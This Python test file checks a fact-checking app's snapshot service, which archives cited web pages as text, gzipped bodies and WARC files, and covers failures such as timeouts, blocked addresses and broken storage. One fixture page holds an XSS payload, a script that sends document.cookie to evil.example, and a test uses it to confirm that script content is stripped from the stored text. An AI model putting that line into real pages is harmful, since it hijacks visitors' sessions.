"""Evidence snapshots: a cited page fetched through the guarded fetcher from a local test
server and kept (facts, main text, gzipped body, WARC file), and what happens when the page,
the broker or the storage misbehaves."""

from __future__ import annotations

import contextlib
import gzip
import hashlib
import io
from datetime import timedelta

import pytest
from django.utils import timezone
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject
from warcio.archiveiterator import ArchiveIterator

from claims import services as claim_services
from factcheck.celery_app import app
from sources.models import Snapshot
from sources.services import snapshots
from tests.factories import ClaimFactory, LinkFactory
from tests.sources.httpserver import LocalHTTPServer, hang, respond
from tests.sources.test_link_worker import broker_unreachable

ARTICLE = """<!doctype html><html><head><title>Jobs report</title></head><body>
<nav>Home | World | Business</nav>
<article><h1>Jobs report</h1>
<p>The national statistics office said on Friday that unemployment fell to 4.1 percent in
March, the lowest level in six years, as hiring picked up in construction and retail.</p>
<p>Economists had expected the rate to stay at 4.3 percent. Wages rose 3.2 percent on the
year, outpacing inflation for the ninth month in a row.</p>
</article><footer>Copyright</footer></body></html>"""

HOSTILE = """<!doctype html><html><head><title>Offer</title>
<script>document.location='http://evil.example/?c='+document.cookie</script></head>
<body><article><p>The ministry's budget grew by twelve percent in the year to April,
according to the figures published by the treasury on its website last week.</p>
<p>Officials said the increase paid for new hospitals and schools across the country.</p>
<img src=x onerror="alert(1)"></article></body></html>"""


def tiny_pdf(text: str) -> bytes:
    """A one-page PDF whose page says ``text`` (Helvetica), made with pypdf."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=612, height=792)
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})}
    )
    stream = DecodedStreamObject()
    stream.set_data(f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1"))
    page.replace_contents(stream)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.fixture
def server(allow_servers, fast_link_settings):
    with LocalHTTPServer() as local:
        allow_servers(local)
        yield local


@pytest.fixture
def snapshot_dir(tmp_path, patch_setting):
    """Snapshot files in a fresh folder (the fallback FileSystemStorage)."""
    patch_setting("FACTCHECK_SNAPSHOT_STORAGE", "snapshots-under-test")
    patch_setting("FACTCHECK_SNAPSHOT_DIR", tmp_path / "snapshots")
    patch_setting("FACTCHECK_SNAPSHOT_ON_CITE", True)
    return tmp_path / "snapshots"


def take(url: str) -> Snapshot:
    link = LinkFactory(url=url)
    snapshot = snapshots.snapshot_request(link=link)
    return snapshots.snapshot_take(snapshot_id=snapshot.pk)


def warc_records(data: bytes) -> list[tuple]:
    """(type, record, payload) of each record; payloads read while iterating, as warcio
    reads one stream."""
    return [(r.rec_type, r, r.content_stream().read()) for r in ArchiveIterator(io.BytesIO(data))]


def stored(name: str) -> bytes:
    with snapshots.snapshot_storage().open(name, "rb") as handle:
        return handle.read()


@pytest.mark.django_db
def test_an_html_page_is_kept_with_its_facts_text_body_and_warc(server, snapshot_dir):
    server.route(
        "/jobs",
        respond(
            200,
            ARTICLE,
            headers={"Last-Modified": "Fri, 03 Apr 2026 09:00:00 GMT", "ETag": '"v1-jobs"'},
            encoding="gzip",
        ),
    )
    server.route("/old-jobs", respond(301, "", headers={"Location": "/jobs"}))
    snap = take(server.url("/old-jobs"))

    assert snap.state == Snapshot.State.DONE and snap.error == ""
    assert snap.kind == Snapshot.Kind.HTML and snap.status_code == 200
    assert snap.final_url == server.url("/jobs")
    assert snap.content_type == "text/html; charset=utf-8"
    assert snap.last_modified == "Fri, 03 Apr 2026 09:00:00 GMT" and snap.etag == '"v1-jobs"'
    assert "unemployment fell to 4.1 percent" in snap.text
    assert "Home | World" not in snap.text  # the main text, not the navigation
    assert snap.content_hash == hashlib.sha256(snap.text.encode()).hexdigest()
    assert snap.fetched_at is not None and snap.requested_at <= snap.fetched_at
    assert not snap.truncated and snap.body_size == len(ARTICLE.encode())
    # The body as served (decoded from the transfer's gzip), gzip-compressed in storage.
    assert gzip.decompress(stored(snap.body_name)) == ARTICLE.encode()
    assert (snapshot_dir / snap.body_name).is_file()

    records = warc_records(stored(snap.warc_name))
    assert [kind for kind, _, _ in records] == ["response", "metadata"]
    (_, response, payload), (_, metadata, meta) = records
    assert response.rec_headers.get_header("WARC-Target-URI") == server.url("/jobs")
    assert response.http_headers.get_statuscode() == "200"
    assert response.http_headers.get_header("ETag") == '"v1-jobs"'
    assert payload == ARTICLE.encode()
    assert metadata.rec_headers.get_header("WARC-Concurrent-To") == (
        response.rec_headers.get_header("WARC-Record-ID")
    )
    meta = meta.decode()
    assert f"requested-url: {server.url('/old-jobs')}" in meta
    assert f"text-sha256: {snap.content_hash}" in meta


@pytest.mark.django_db
def test_a_pdf_is_kept_as_a_file_with_its_text(server, snapshot_dir):
    pdf = tiny_pdf("Unemployment fell to 4.1 percent in March")
    server.route("/report.pdf", respond(200, pdf, content_type="application/pdf"))
    snap = take(server.url("/report.pdf"))

    assert snap.state == Snapshot.State.DONE and snap.kind == Snapshot.Kind.PDF
    assert snap.text == "Unemployment fell to 4.1 percent in March"
    kept = gzip.decompress(stored(snap.body_name))
    assert kept == pdf
    assert PdfReader(io.BytesIO(kept)).pages[0].extract_text() == snap.text


@pytest.mark.django_db
def test_plain_text_is_kept_as_is(server, snapshot_dir):
    body = "Table 3. Unemployment rate, March: 4.1 %\nFebruary: 4.3 %\n"
    server.route("/table.txt", respond(200, body, content_type="text/plain; charset=utf-8"))
    snap = take(server.url("/table.txt"))
    assert snap.kind == Snapshot.Kind.TEXT and snap.text == body.strip()
    assert gzip.decompress(stored(snap.body_name)) == body.encode()


@pytest.mark.django_db
def test_another_binary_type_keeps_the_facts_only(server, snapshot_dir):
    server.route(
        "/photo.jpg",
        respond(200, b"\xff\xd8\xff\xe0" + bytes(4000), content_type="image/jpeg"),
    )
    snap = take(server.url("/photo.jpg"))
    assert snap.state == Snapshot.State.DONE and snap.kind == Snapshot.Kind.OTHER
    assert snap.content_type == "image/jpeg" and snap.status_code == 200
    assert snap.text == "" and snap.content_hash == ""
    assert snap.body_name == "" and snap.warc_name == "" and snap.body_size == 0
    assert not snapshot_dir.exists() or not any(snapshot_dir.rglob("*.gz"))


@pytest.mark.django_db
def test_a_giant_page_is_cut_at_the_cap_and_marked_truncated(server, snapshot_dir, patch_setting):
    patch_setting("FACTCHECK_SNAPSHOT_MAX_BYTES", 10_000)
    paragraph = "<p>" + "The minister said the figure was 3.1 million people. " * 20 + "</p>\n"
    page = "<html><body><article>" + paragraph * 400 + "</article></body></html>"
    assert len(page) > 400_000
    server.route("/giant", respond(200, page))
    snap = take(server.url("/giant"))
    assert snap.state == Snapshot.State.DONE and snap.truncated
    assert snap.body_size == 10_000
    assert gzip.decompress(stored(snap.body_name)) == page.encode()[:10_000]
    records = warc_records(stored(snap.warc_name))
    assert len(records[0][2]) == 10_000
    assert "truncated: yes" in records[1][2].decode()


@pytest.mark.django_db
def test_a_page_that_times_out_fails_with_the_error_kept(server, snapshot_dir, patch_setting):
    patch_setting("FACTCHECK_FETCH_TOTAL_TIMEOUT", 1.0)
    patch_setting("FACTCHECK_FETCH_READ_TIMEOUT", 0.5)
    server.route("/slow", hang(10))
    snap = take(server.url("/slow"))
    assert snap.state == Snapshot.State.FAILED
    assert snap.error.startswith("timeout:")
    assert snap.fetched_at is not None and snap.body_name == ""


@pytest.mark.django_db
def test_a_refused_address_is_never_fetched(snapshot_dir, patch_setting):
    patch_setting("FACTCHECK_FETCH_ALLOW_HOSTS", [])
    with LocalHTTPServer() as local:
        local.route("/secret", respond(200, "<p>internal</p>"))
        snap = take(local.url("/secret"))
        assert local.requests_to("/secret") == []
    assert snap.state == Snapshot.State.FAILED and snap.error.startswith("unsafe:")


@pytest.mark.django_db
def test_hostile_html_is_stored_but_only_its_text_is_kept_as_text(server, snapshot_dir):
    server.route("/offer", respond(200, HOSTILE))
    snap = take(server.url("/offer"))
    assert snap.state == Snapshot.State.DONE and snap.kind == Snapshot.Kind.HTML
    assert "budget grew by twelve percent" in snap.text
    assert "<script" not in snap.text and "document.cookie" not in snap.text
    assert "onerror" not in snap.text
    # The raw page is kept byte for byte, compressed: a gzip file is never served as HTML.
    assert gzip.decompress(stored(snap.body_name)) == HOSTILE.encode()
    assert snap.body_name.endswith(".body.gz")


@pytest.mark.django_db
def test_a_job_run_twice_fetches_once(server, snapshot_dir):
    server.route("/jobs", respond(200, ARTICLE))
    link = LinkFactory(url=server.url("/jobs"))
    snapshot = snapshots.snapshot_request(link=link)
    assert snapshots.snapshot_request(link=link) == snapshot  # one pending per link
    assert snapshots.snapshot_take(snapshot_id=snapshot.pk).state == Snapshot.State.DONE
    assert snapshots.snapshot_take(snapshot_id=snapshot.pk) is None
    assert len(server.requests_to("/jobs")) == 1


@contextlib.contextmanager
def eager_jobs():
    was = app.conf.task_always_eager
    app.conf.task_always_eager = True
    try:
        yield
    finally:
        app.conf.task_always_eager = was


def add_evidence(claim, user, url: str):
    return claim_services.evidence_add(
        claim=claim, user=user, url=url, stance="refutes", quote="fell to 4.1 percent"
    )


@pytest.mark.django_db
def test_adding_evidence_takes_a_snapshot_once_it_commits(
    server, snapshot_dir, reviewer, django_capture_on_commit_callbacks
):
    server.route("/jobs", respond(200, ARTICLE))
    claim = ClaimFactory()
    with eager_jobs(), django_capture_on_commit_callbacks(execute=True) as callbacks:
        evidence = add_evidence(claim, reviewer, server.url("/jobs"))
        assert Snapshot.objects.get(link=evidence.link).state == Snapshot.State.PENDING
    assert callbacks  # the job is sent on commit, not before
    snap = Snapshot.objects.get(link=evidence.link)
    assert snap.state == Snapshot.State.DONE and "4.1 percent" in snap.text


@pytest.mark.django_db
def test_with_the_broker_down_the_evidence_is_saved_and_the_sweep_sends_the_snapshot(
    server, snapshot_dir, reviewer, django_capture_on_commit_callbacks, caplog
):
    server.route("/jobs", respond(200, ARTICLE))
    claim = ClaimFactory()
    with broker_unreachable(), django_capture_on_commit_callbacks(execute=True):
        evidence = add_evidence(claim, reviewer, server.url("/jobs"))
    assert "could not enqueue snapshot" in caplog.text
    snap = Snapshot.objects.get(link=evidence.link)
    assert snap.state == Snapshot.State.PENDING and server.requests_to("/jobs") == []
    # Not due before the retry delay; then the sweep sends it and the job takes it.
    assert snapshots.snapshots_sweep() == 0
    later = timezone.now() + timedelta(hours=1)
    with eager_jobs():
        assert snapshots.snapshots_sweep(now=later) == 1
    snap.refresh_from_db()
    assert snap.state == Snapshot.State.DONE and "4.1 percent" in snap.text


@pytest.mark.django_db
def test_an_unwritable_storage_keeps_the_evidence_and_the_snapshot_retries(
    server, tmp_path, patch_setting, reviewer, django_capture_on_commit_callbacks
):
    server.route("/jobs", respond(200, ARTICLE))
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("a file where the storage's folder should be")
    patch_setting("FACTCHECK_SNAPSHOT_STORAGE", "snapshots-under-test")
    patch_setting("FACTCHECK_SNAPSHOT_DIR", blocker / "snapshots")
    patch_setting("FACTCHECK_SNAPSHOT_ON_CITE", True)
    claim = ClaimFactory()
    with eager_jobs(), django_capture_on_commit_callbacks(execute=True):
        evidence = add_evidence(claim, reviewer, server.url("/jobs"))
    evidence.refresh_from_db()  # saved
    snap = Snapshot.objects.get(link=evidence.link)
    assert snap.state == Snapshot.State.PENDING and snap.attempts == 1
    assert snap.error.startswith("storage:") and snap.body_name == ""
    assert snap.next_attempt_at > timezone.now()

    # The storage is back: the sweep's retry stores it.
    patch_setting("FACTCHECK_SNAPSHOT_DIR", tmp_path / "snapshots")
    with eager_jobs():
        assert snapshots.snapshots_sweep(now=snap.next_attempt_at + timedelta(seconds=1)) == 1
    snap.refresh_from_db()
    assert snap.state == Snapshot.State.DONE and snap.attempts == 2
    assert gzip.decompress(stored(snap.body_name)) == ARTICLE.encode()


@pytest.mark.django_db
def test_storage_failing_every_time_ends_as_failed(server, tmp_path, patch_setting):
    server.route("/jobs", respond(200, ARTICLE))
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("x")
    patch_setting("FACTCHECK_SNAPSHOT_STORAGE", "snapshots-under-test")
    patch_setting("FACTCHECK_SNAPSHOT_DIR", blocker / "snapshots")
    patch_setting("FACTCHECK_SNAPSHOT_MAX_ATTEMPTS", 2)
    link = LinkFactory(url=server.url("/jobs"))
    snap = snapshots.snapshot_request(link=link)
    assert snapshots.snapshot_take(snapshot_id=snap.pk).state == Snapshot.State.PENDING
    assert snapshots.snapshot_take(snapshot_id=snap.pk).state == Snapshot.State.FAILED


@pytest.mark.django_db
def test_prune_deletes_old_files_but_keeps_each_links_newest(server, snapshot_dir, patch_setting):
    patch_setting("FACTCHECK_SNAPSHOT_RETENTION_DAYS", 30)
    server.route("/jobs", respond(200, ARTICLE))
    link = LinkFactory(url=server.url("/jobs"))
    first = snapshots.snapshot_take(snapshot_id=snapshots.snapshot_request(link=link).pk)
    second = snapshots.snapshot_take(snapshot_id=snapshots.snapshot_request(link=link).pk)
    long_ago = timezone.now() - timedelta(days=90)
    Snapshot.objects.filter(pk=first.pk).update(fetched_at=long_ago - timedelta(days=1))
    Snapshot.objects.filter(pk=second.pk).update(fetched_at=long_ago)

    assert snapshots.snapshots_prune() == 1
    first.refresh_from_db()
    second.refresh_from_db()
    assert first.body_name == "" and first.warc_name == "" and first.files_deleted_at
    assert first.text  # the facts and text stay
    assert not any(snapshot_dir.rglob(f"snapshot-{first.pk}.*"))
    assert stored(second.body_name) and stored(second.warc_name)  # the newest stays
    assert snapshots.snapshots_prune() == 0


def test_snapshot_jobs_go_to_the_link_queue_and_are_swept_and_pruned_by_beat(settings):
    assert settings.CELERY_TASK_ROUTES["sources.snapshot_take"] == {"queue": "links"}
    beat = {entry["task"] for entry in settings.CELERY_BEAT_SCHEDULE.values()}
    assert {"sources.snapshots_sweep", "sources.snapshots_prune"} <= beat
    assert "sources.snapshot_take" in app.tasks


@pytest.mark.django_db
def test_a_storages_alias_names_where_the_files_go(server, tmp_path, settings):
    """The production path: FACTCHECK_SNAPSHOT_STORAGE names an alias of STORAGES (an S3
    backend in production; a FileSystemStorage here)."""
    settings.STORAGES = {
        **settings.STORAGES,
        "evidence": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path / "by-alias")},
        },
    }
    settings.FACTCHECK_SNAPSHOT_STORAGE = "evidence"
    settings.FACTCHECK_SNAPSHOT_DIR = tmp_path / "fallback"
    server.route("/jobs", respond(200, ARTICLE))
    snap = take(server.url("/jobs"))
    assert (tmp_path / "by-alias" / snap.body_name).is_file()
    assert (tmp_path / "by-alias" / snap.warc_name).is_file()
    assert not (tmp_path / "fallback").exists()


@pytest.mark.django_db
def test_with_sending_on_cite_off_the_row_waits_for_the_sweep(
    server, snapshot_dir, patch_setting, reviewer, django_capture_on_commit_callbacks
):
    server.route("/jobs", respond(200, ARTICLE))
    patch_setting("FACTCHECK_SNAPSHOT_ON_CITE", False)
    with eager_jobs(), django_capture_on_commit_callbacks(execute=True):
        evidence = add_evidence(ClaimFactory(), reviewer, server.url("/jobs"))
    snap = Snapshot.objects.get(link=evidence.link)
    assert snap.state == Snapshot.State.PENDING and server.requests == []
    with eager_jobs():
        assert snapshots.snapshots_sweep(now=snap.next_attempt_at + timedelta(seconds=1)) == 1
    snap.refresh_from_db()
    assert snap.state == Snapshot.State.DONE
